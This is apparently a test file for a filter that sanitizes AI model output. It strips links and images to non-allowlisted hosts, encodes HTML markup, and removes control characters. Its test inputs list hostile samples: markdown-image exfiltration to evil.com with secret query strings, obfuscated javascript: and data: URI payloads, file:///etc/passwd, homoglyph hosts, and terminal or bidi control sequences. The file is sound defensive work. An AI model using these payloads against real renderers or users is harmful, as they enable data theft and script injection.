import { type Exchange, type ModelCall } from 'unseen-guardian/kernel';
import { UnsafeOutputControl } from './unsafe-output.control';
import { type UnsafeOutputOptions } from './unsafe-output.options';

const HOSTS = ['good.com', '*.example.org', 'bücher.de'];

function filtered(text: string, options: UnsafeOutputOptions = {}, channel = 'text:0') {
  const control = new UnsafeOutputControl({ hosts: HOSTS, ...options });
  const filter = control.open({} as Exchange, {} as ModelCall);
  return { text: filter.write(channel, text) + filter.end(channel), verdict: filter.verdict() };
}
const shown = (text: string, options?: UnsafeOutputOptions) => filtered(text, options).text;

describe('addresses', () => {
  it.each([
    ['See ![chart](https://evil.com/p.png?d=secret).', 'See [image removed].'],
    ['See [the page](https://evil.com/?d=secret), please.', 'See the page [link removed], please.'],
    ['[![x](https://evil.com/a)](https://evil.com/b)', '[image removed] [link removed]'],
    ['[a][1]\n\n[1]: https://evil.com/x "t"', '[a][1]\n\n[1]: [link removed] "t"'],
    ['[1]:\n  <//evil.com/x>', '[1]:\n  [link removed]'],
    ['<https://evil.com/x>', '<[link removed]>'],
    ['Go to https://evil.com/a?b=c.', 'Go to [link removed].'],
    ['(https://evil.com/a), www.evil.com/b', '([link removed]), [link removed]'],
    ['evil.com/?d=secret and //evil.com/x', '[link removed] and [link removed]'],
    ['<a href="https://evil.com/x">t</a>', '&lt;a href="[link removed]">t&lt;/a>'],
    ["<div style='background:url(//evil.com/x)'>", "&lt;div style='background:url([link removed])'>"],
    ['<img srcset="https://evil.com/a 1x">', '&lt;img srcset="[link removed] 1x">'],
    ['ht[tps://evil](x:y).com/', 'ht [link removed] [link removed].com/'],
    ['[t](https://evil.com/)(https://evil.com/2)', 't [link removed] [link removed]'],
    ['[x][(//evil)](x:y)', '[x] (//evil) [link removed]'],
    ['https://evil.com: //evil', '[link removed] //evil'],
    ['[t](https://evil.com [u](x\n\n(//evil)', 't [link removed] [link removed]'],
    ['https://good.com/?u=https://evil.com/x', 'https://good.com/?u=[link removed]'],
  ])('removes them from %s', (text, expected) => expect(shown(text)).toBe(expected));

  it.each([
    'https://good.com@evil.com/',
    'https:\\\\evil.com',
    'https:/\\evil.com',
    '//evil.com',
    '//evil',
    '\\\\evil',
    '/\\evil.com',
    'HTTPS://EVIL.COM',
    'https:evil.com',
    'https://%65vil.com',
    'https://good.com%2F@evil.com',
    'https://good.com.evil.com',
    'https://good.com。evil.com',
    'https://gооd.com',
    'https://example.org',
    'https://notexample.org',
    'https&#58;//evil.com',
    'https&colon;&sol;&sol;evil.com',
    'https\\://evil.com',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&Tab;script:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    'javascript%3Aalert(1)',
    '<java\tscript:alert(1)>',
    '\u0001javascript:alert(1)',
    'java\u00adscript:alert(1)',
    'vbscript:x',
    'data:text/html,<b>x',
    'data:image/png;base64,AAAA',
    'file:///etc/passwd',
    'ftp://good.com/x',
    'mailto:a@evil.com',
    'blob:https://evil.com/x',
    `https://evil.com/${'a'.repeat(5000)}`,
  ])('do not get past as %s', (address) => {
    const link = shown(`[t](${address}) end`);
    expect(link).toMatch(/^t \[link removed\]/);
    expect(shown(`![t](${address}) end`)).toMatch(/^\[image removed\]/);
    expect(link).not.toMatch(/evil|script|data:|passwd/);
    expect(shown(`[t]: ${address}\n`)).toMatch(/^\[t\]: \[link removed\]/);
  });

  it.each([
    'https://good.com@evil.com/',
    'https:\\\\evil.com/x',
    'HTTPS://evil.com',
    'https&#58;//evil.com',
    'https\\://evil.com',
    'https://good.com",.evil.com/',
    'https://good.com).evil.com/',
    'https://good.com中.evil.com/',
    'https://evil.com中/x',
    'javascript:alert(1)',
    'data:text/html;base64,AAAA',
    'file:///etc/passwd',
    'www.evil.com',
    '_www.evil.com',
    'раypal.com/x',
    `https://evil.com/${'a'.repeat(5000)}`,
    `${'a'.repeat(5000)}//https://evil.com/${'a'.repeat(5000)}`,
  ])('do not get past in running text as %s', (address) => {
    expect(shown(`See ${address} now`)).toMatch(/^See .*\[link removed\].*now$/);
    expect(shown(`See ${address} now`)).not.toMatch(/evil\.com|alert|passwd|AAAA|раypal/);
  });

  it.each([
    'Plain prose: it costs 3.50, and/or 5 % off (see below). Mail bob@evil.com!',
    '[docs](https://good.com/a_(b)?c=d#e "A title"), ![i](https://a.b.example.org/i.png)',
    '[page](/docs/x), [part](#part), [file](page.html)',
    '**https://good.com**, "https://good.com/a". (https://good.com)',
    'https://bücher.de/x and https://GOOD.com:8443/',
    '<https://good.com/x>',
    'Use `List<String>` of Node.js/Express, C:\\dir\\file.txt and src/main.ts // comment',
    'const a: number[] = [1, 2]; call(a[0](x)); { "data": 1 }',
    '```html\n<b onclick="x()">\n```\nend',
    '[1]: /local\n[Note]: text',
    '中文没有空格,所以不能等。价格3.5元。',
  ])('leaves %s', (text) => expect(filtered(text)).toEqual({ text, verdict: { kind: 'pass' } }));
});

describe('markup', () => {
  it.each([
    ['<script>x</script> a < b', '&lt;script>x&lt;/script> a < b'],
    ['`a\nb` <b> `', '`a\nb` &lt;b> `'],
    ['\\`<b>`', '\\`&lt;b>`'],
    ['` \\`` <i> ` <b> `', '` \\`` <i> ` &lt;b> `'],
    ['| `a | <b>` |', '| `a | &lt;b>` |'],
    ['https://good.com/x`</b>`', 'https://good.com/x`&lt;/b>`'],
    ['[t]: \n~~~\n<b>', '[t]: \n~~~\n&lt;b>'],
    ['ends with <', 'ends with &lt;'],
    ['- ```\n  x\n<b>\n```\n`<b>`', '- ```\n  x\n&lt;b>\n```\n`&lt;b>`'],
    ['  ```\n  <b>\n<i>', '  ```\n  <b>\n&lt;i>'],
    ['> ```\n<b>', '> ```\n&lt;b>'],
    ['```\n<b>\n``` x\n<i>\n```\n<u>', '```\n<b>\n``` x\n<i>\n```\n&lt;u>'],
    ['$$\n```\n$$\n<b>', '$$\n```\n$$\n&lt;b>'],
    ['[a](/x "`") <b> `', '[a](/x "`") &lt;b> `'],
    [`\`${'a'.repeat(3000)} <b>\``, `\`${'a'.repeat(3000)} &lt;b>\``],
    ['<!-- x --> <?x ?> <x:y> <https://good.com onclick=x>', null],
  ])('is encoded for Markdown in %j', (text, expected) => {
    const out = shown(text);
    if (expected === null) expect(out).not.toContain('<');
    else expect(out).toBe(expected);
  });

  it('is encoded whole for HTML, and stays in plain text', () => {
    const text = `<b a='x' b="y"> & \`<i>\``;
    expect(shown(text, { sink: 'html' })).toBe('&lt;b a=&#39;x&#39; b=&quot;y&quot;&gt; &amp; `&lt;i&gt;`');
    expect(shown(text, { sink: 'text' })).toBe(text);
  });
});

describe('control characters', () => {
  it.each([
    ['\u001b[31mred\u001b[0m', 'red'],
    ['\u001b]8;;https://evil.com\u001b\\x\u001b]8;;\u0007', 'x'],
    ['\u009b31mred \u009dtitle\u009c!', 'red !'],
    ['\u001b]never ends\nnext', '\nnext'],
    ['\u001b(Ba\u001bcb', 'ab'],
    ['a\u0000\u0007\r\n\tb\u007f\u0085', 'a\n\tb'],
    ['a\u202eb\u2066c\u2069\u200f', 'abc'],
    ['a\u{e0041}\u{e007f}b\u200b\ufeff\u2060c', 'abc'],
    ['a\u200d\u200cb\ufe0f\ufe0e', 'ab'],
    ['a\ud800b', 'ab'],
    ['👩‍💻 ❤️ 1️⃣ 🏳️‍🌈 می‌خواهم', '👩‍💻 ❤️ 1️⃣ 🏳️‍🌈 می‌خواهم'],
  ])('are removed from %j in every sink', (text, expected) => {
    for (const sink of ['text', 'markdown', 'html'] as const) expect(shown(text, { sink })).toBe(expected);
  });
});

describe('the control', () => {
  it('says how many of what it found, and no text', () => {
    const text = '[a](https://evil.com) ![b](https://evil.com) <b> \u0007';
    expect(filtered(text).verdict).toEqual({
      kind: 'transform',
      findings: { LINK: 1, IMAGE: 1, MARKUP: 1, CONTROL: 1 },
    });
  });

  it.each([
    ['https://good.com/x', 'https://good.com/x'],
    ['https://evil.com/x', ''],
    ['javascript:alert(1)', ''],
    [`https://good.com/${'a'.repeat(5000)}`, ''],
  ])('leaves the address %s of a source as %j', (address, expected) =>
    expect(filtered(address, {}, 'source:1.url').text).toBe(expected),
  );

  it.each([
    ['<b>https://evil.com/x</b>\u0007', '<b>https://evil.com/x</b>'],
    ['see javascript:alert', 'see [link removed]'],
    ['java\n\tscript:alert', '[link removed]'],
    ['&#106;avascript:alert', '[link removed]'],
    ['love of java\nscript', 'love of java\nscript'],
  ])('leaves the argument %j of a tool as %j', (text, expected) =>
    expect(filtered(text, {}, 'tool:c.0').text).toBe(expected),
  );

  it('keeps the channels apart', () => {
    const filter = new UnsafeOutputControl().open({} as Exchange, {} as ModelCall);
    const out = filter.write('text:0', 'See http') + filter.write('reasoning:0', 's://evil.com ');
    expect(out + filter.end('text:0') + filter.end('reasoning:0')).toBe('See s://evil.com http');
  });

  it.each([
    { hosts: ['https://good.com'] },
    { hosts: ['good.com/x'] },
    { hosts: [''] },
    { hosts: ['*'] },
    { sink: 'pdf' as 'html' },
  ])('refuses %j', (options) => {
    expect(() => new UnsafeOutputControl(options)).toThrow('unsafeOutput.');
  });
});
